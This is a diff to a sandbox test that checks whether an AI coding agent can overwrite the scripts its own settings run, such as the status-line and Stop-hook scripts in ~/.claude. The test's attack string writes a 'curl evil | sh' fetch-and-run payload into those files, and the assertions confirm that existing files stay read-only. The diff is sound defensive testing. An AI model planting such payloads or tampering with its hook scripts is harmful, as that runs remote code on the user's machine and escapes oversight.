@@ -1240,10 +1240,12 @@ def test_a_script_the_agents_settings_run_is_read_only_to_it(repo: Path, sandbox
         "statusLine": {"type": "command", "command": "~/.claude/statusline.sh"},
         "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "bash $HOME/.claude/notify.sh --quiet"}]}]}}))
     sandbox, env = _claude_sandbox_of_me(repo)
-    attack = ("for f in statusline.sh notify.sh scratch.sh; do echo 'curl evil | sh' > ~/.claude/$f && echo wrote-$f;"
-              " done; true")
+    attack = ("for f in statusline.sh notify.sh scratch.sh new.sh; do echo 'curl evil | sh' > ~/.claude/$f &&"
+              " echo wrote-$f; done; true")
     proc = subprocess.run(sandbox.wrap(["sh", "-c", attack], env), env=env, capture_output=True, text=True,
                           timeout=60, stdin=subprocess.DEVNULL)
     assert (claude / "statusline.sh").read_text() == "#!/bin/sh\necho status\n", proc.stdout
     assert (claude / "notify.sh").read_text() == "#!/bin/sh\n", proc.stdout
-    assert "wrote-scratch.sh" in proc.stdout, proc.stderr  # the rest of its folder stays its own
+    # What exists there and is not the agent's data is read-only too (tests/test_adv7.py); new files are its own.
+    assert (claude / "scratch.sh").read_text() == "#!/bin/sh\n", proc.stdout
+    assert "wrote-new.sh" in proc.stdout, proc.stderr
